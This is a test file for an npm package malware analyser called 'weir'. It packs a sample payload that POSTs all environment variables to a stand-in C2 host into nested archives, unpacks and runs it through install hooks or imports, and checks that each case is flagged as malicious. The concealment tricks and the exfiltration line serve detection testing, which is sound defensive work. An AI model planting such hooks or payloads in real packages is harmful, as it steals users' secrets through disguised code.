import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import type { AnalysisResult } from '@weir/model';
import { tarball, zip } from '@weir/testkit/archive';
import { afterAll, describe, expect, test } from 'vitest';
import { analyzeFile } from './analyze-file.ts';

const STEAL = `fetch('https://c2.weir.test', { method: 'POST', body: JSON.stringify(process.env) });\n`;
const dir = mkdtempSync(join(tmpdir(), 'weir-nested-files-test-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** A package whose install script is `hook`, with one more file in it. */
function analyze(hook: string, file: string, content: Uint8Array): Promise<AnalysisResult> {
  return analyzePackage({ scripts: { postinstall: hook } }, { [file]: content });
}

async function analyzePackage(
  fields: object,
  files: Readonly<Record<string, string | Uint8Array>>,
): Promise<AnalysisResult> {
  const manifest = JSON.stringify({ name: 'x', version: '1.0.0', ...fields });
  const path = join(dir, 'x.tgz');
  const packed = tarball().file('package/package.json', manifest);
  for (const [file, content] of Object.entries(files)) packed.file(`package/${file}`, content);
  writeFileSync(path, packed.build());
  return analyzeFile(
    { path, filename: 'x.tgz', ecosystem: 'npm', context: null },
    { rulesetVersion: 'test', now: () => performance.now() },
  );
}

describe('what an install script unpacks', () => {
  test.each([
    ['gunzip -c data.gz > setup.js && node setup.js', 'data.gz', gzipSync(STEAL)],
    ['zcat assets/logo.png | node', 'assets/logo.png', gzipSync(STEAL)],
    ['zcat data | zcat | node', 'data', gzipSync(gzipSync(STEAL))],
    ['unzip -o data.bin && node setup.js', 'data.bin', zip().file('setup.js', STEAL).build()],
    [
      'unzip -o a.zip && tar xf b && node setup.js',
      'a.zip',
      zip().file('b', tarball().file('setup.js', STEAL).build()).build(),
    ],
  ])('is analysed, whatever its name: %s', async (hook, path, content) => {
    const result = await analyze(hook, path, content);

    expect(result.findings[0]).toMatchObject({ rule: 'env-to-network/environment', stage: 'install' });
    expect(result.judgement.verdict).toBe('malicious');
  });

  test('is unread where it goes deeper than is followed', async () => {
    let bytes: Buffer = Buffer.from(STEAL);
    for (let i = 0; i < 20; i++) bytes = gzipSync(bytes);

    const result = await analyze('./unpack data', 'data', bytes);

    expect(result.findings.map(({ rule }) => rule)).toContain('analysis/archive-budget-depth');
    expect(result.judgement).toMatchObject({ verdict: 'inconclusive', complete: false });
  });

  test('is no container when its bytes are none', async () => {
    const result = await analyze('node-gyp-build data', 'data', Buffer.from('plain words'));

    expect(result.judgement).toMatchObject({ verdict: 'benign', complete: true });
  });
});

describe('what an import unpacks', () => {
  const TAR = tarball().file('setup.js', STEAL).build();

  test.each([
    [`require('child_process').execSync('tar xf a.tar && node setup.js');\n`, 'a.tar', TAR],
    [
      `const Zip = require('adm-zip');\nnew Zip(__dirname + '/a.zip').extractAllTo('/tmp/z');\nrequire('/tmp/z/setup.js');\n`,
      'a.zip',
      zip().file('setup.js', STEAL).build(),
    ],
    [
      `new Function(require('zlib').gunzipSync(require('fs').readFileSync('a.gz')))();\n`,
      'a.gz',
      gzipSync(STEAL),
    ],
  ])('is analysed: %s', async (code, path, content) => {
    const { findings } = await analyzePackage({ main: 'i.js' }, { 'i.js': code, [path]: content });

    expect(findings.map(({ rule, stage }) => `${stage} ${rule}`)).toContain(
      'import env-to-network/environment',
    );
  });

  test.each([
    ['that nothing names', `module.exports = 1;\n`, 'a.tar', TAR],
    [
      'of data',
      `exports.load = () => require('zlib').gunzipSync(require('fs').readFileSync(__dirname + '/words.csv.gz'));\n`,
      'words.csv.gz',
      gzipSync(`name,code\nx,${STEAL}`, {}),
    ],
    [
      'that is not opened, and that no code could run',
      `exports.at = require('path').join(__dirname, 'chrome.br');\n`,
      'chrome.br',
      new Uint8Array(100).fill(7),
    ],
  ])('is its own affair: a container %s', async (_name, code, path, content) => {
    const result = await analyzePackage({ main: 'i.js' }, { 'i.js': code, [path]: content });

    expect(result.judgement).toMatchObject({ verdict: 'benign', complete: true });
  });
});

describe('what is wrong with a container inside the package', () => {
  const broken = tarball().file('package/setup.js', STEAL).build();
  const cut = broken.subarray(0, -30);

  test.each([
    ['install', { scripts: { postinstall: 'tar xzf lib/a.tgz && node package/setup.js' } }, ''],
    ['import', { main: 'i.js' }, "require('child_process').execSync('tar xzf ' + __dirname + '/lib/a.tgz');"],
  ])('has its own path, and the stage of what unpacks it: %s', async (stage, fields, code) => {
    const result = await analyzePackage(fields, { 'i.js': code, 'lib/a.tgz': cut });

    const own = result.findings.filter(({ rule }) => rule.startsWith('analysis/archive-'));
    expect(own.length).toBeGreaterThan(0);
    for (const { location, stage: told } of own) {
      expect(location?.file).toMatch(/^lib\/a\.tgz(?:!\/package\/setup\.js)?$/);
      expect(told).toBe(stage);
    }
    for (const { file } of result.skipped) expect(file).toMatch(/^lib\/a\.tgz(?:!\/package\/setup\.js)?$/);
  });
});

test('what is wrong with the bytes of a member that nothing runs, nothing runs', async () => {
  const path = join(dir, 'w.tgz');
  const packed = tarball()
    .file('package/package.json', JSON.stringify({ name: 'x', version: '1.0.0', main: 'i.js' }))
    .file('package/i.js', '1')
    .file('package/doc/a.txt', 'x'.repeat(3_000));
  writeFileSync(path, gzipSync(packed.build({ gzip: false }).subarray(0, 4_000)));
  const result = await analyzeFile(
    { path, filename: 'w.tgz', ecosystem: 'npm', context: null },
    { rulesetVersion: 'test', now: () => performance.now() },
  );
  const own = result.findings.filter(({ rule }) => rule === 'analysis/archive-truncated');
  expect(own).toMatchObject([{ stage: 'dead', location: { file: 'doc/a.txt' } }]);
  expect(result.skipped).toMatchObject([{ file: 'doc/a.txt' }]);
});
